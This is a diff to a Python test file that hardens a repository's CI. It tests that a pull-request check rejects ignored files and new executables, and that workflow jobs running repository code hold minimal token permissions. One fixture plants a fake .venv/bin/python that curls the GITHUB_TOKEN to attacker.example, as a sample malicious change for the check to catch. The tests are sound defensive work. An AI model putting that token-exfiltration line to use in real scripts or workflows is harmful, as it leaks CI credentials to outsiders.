@@ -121,7 +121,62 @@ def test_the_pull_request_check_refuses_committed_build_output(project):
     script = REPO / ".github" / "scripts" / "check-changed.sh"
     result = subprocess.run(["bash", str(script), "main", NEWSLETTER], cwd=srcdir, capture_output=True, text=True)
     assert result.returncode == 1
-    assert "::error title=build output in the pull request::_build/html/.doctrees/environment.pickle" in result.stderr
+    assert "::error title=ignored files in the pull request::_build/html/.doctrees/environment.pickle" in result.stderr
+
+
+def _pull_request(srcdir, change) -> subprocess.CompletedProcess:
+    """The pull-request check on a repository whose base is ``srcdir`` and whose head adds what ``change``
+    makes."""
+    def git(*args):
+        subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.org", *args], cwd=srcdir,
+                       check=True, capture_output=True)
+
+    (srcdir / ".gitignore").write_text((REPO / ".gitignore").read_text())
+    git("init", "-q", "-b", "main")
+    git("add", "-A")
+    git("commit", "-qm", "base")
+    git("update-ref", "refs/remotes/origin/main", "HEAD")
+    change(srcdir, git)
+    git("commit", "-qm", "pull request")
+    script = REPO / ".github" / "scripts" / "check-changed.sh"
+    return subprocess.run(["bash", str(script), "main", NEWSLETTER], cwd=srcdir, capture_output=True, text=True)
+
+
+def test_the_pull_request_check_refuses_every_ignored_path_even_if_the_pull_request_unignores_it(project):
+    """make runs .venv/bin/python from the working tree, in jobs that may hold a token."""
+    def change(srcdir, git):
+        (srcdir / ".venv/bin").mkdir(parents=True)
+        (srcdir / ".venv/bin/python").write_text("#!/bin/sh\ncurl https://attacker.example/?t=$GITHUB_TOKEN\n")
+        (srcdir / ".gitignore").write_text("")  # the pull request's own rules do not count
+        git("add", "-f", "-A")
+
+    result = _pull_request(project("basic"), change)
+    assert result.returncode == 1
+    assert "::error title=ignored files in the pull request::.venv/bin/python" in result.stderr
+
+
+def test_the_pull_request_check_refuses_new_executable_files(project):
+    def change(srcdir, git):
+        report = srcdir / "reports/alpha/kickoff.md"
+        (srcdir / "reports/alpha/run.md").write_text(report.read_text().replace("title: ", "title: Run "))
+        (srcdir / "reports/alpha/run.md").chmod(0o755)
+        report.chmod(0o755)  # made executable
+        git("add", "-A")
+
+    result = _pull_request(project("basic"), change)
+    assert result.returncode == 1
+    assert "::error title=executable files in the pull request:: reports/alpha/kickoff.md reports/alpha/run.md" \
+        in result.stderr
+
+
+def test_the_pull_request_check_passes_an_honest_report(project):
+    def change(srcdir, git):
+        report = srcdir / "reports/alpha/kickoff.md"
+        (srcdir / "reports/alpha/honest.md").write_text(report.read_text().replace("title: ", "title: Honest "))
+        git("add", "-A")
+
+    result = _pull_request(project("basic"), change)
+    assert result.returncode == 0, result.stderr + result.stdout
 
 
 def test_check_flags_feedback_options_that_myst_cannot_read(project, build):
@@ -483,3 +538,33 @@ def test_reports_that_need_sphinx_are_checked_in_the_main_process(project):
         "reports/gamma/many-7.md:7: warning: Unknown interpreted text role \"reff\". [myst.role_unknown]",
         "reports/gamma/many-8.md:7: warning: meta tags are not allowed in reports and are left out "
         "[newsletter.unsafe]"]
+
+
+RUNS_CODE = re.compile(r"(^|[\s;&|(])(make|\.venv/bin/[\w.-]+|python3?|pip3?|bash \S+\.sh)(\s|$)", re.MULTILINE)
+"""A shell step that runs the repository's code (its Makefile, its virtual environment, its scripts)."""
+
+
+def _workflows():
+    for path in sorted((REPO / ".github/workflows").glob("*.yml")):
+        workflow = yaml.safe_load(path.read_text())
+        yield path.name, workflow
+
+
+def test_workflow_tokens_are_the_least_each_job_needs():
+    """Nothing at the top; a job that runs the repository's code (make, .venv, newsletter) holds no write
+    permission; a checkout keeps no credentials unless its job pushes."""
+    for name, workflow in _workflows():
+        assert workflow.get("permissions") == {}, name
+        for job_name, job in workflow["jobs"].items():
+            permissions = job.get("permissions", {})
+            steps = job.get("steps", [])
+            runs_code = any(RUNS_CODE.search(step.get("run", "")) for step in steps)
+            writes = {key for key, value in permissions.items() if value == "write"}
+            assert not (runs_code and writes), f"{name}: job {job_name} runs repository code with {writes}"
+            pushes = any("git push" in step.get("run", "") for step in steps)
+            for step in steps:
+                if str(step.get("uses", "")).startswith("actions/checkout"):
+                    kept = (step.get("with") or {}).get("persist-credentials", True)
+                    assert kept is False or pushes, f"{name}: job {job_name} keeps its checkout's token"
+                if "GH_TOKEN" in (step.get("env") or {}):
+                    assert not RUNS_CODE.search(step.get("run", "")), (name, step.get("name"))
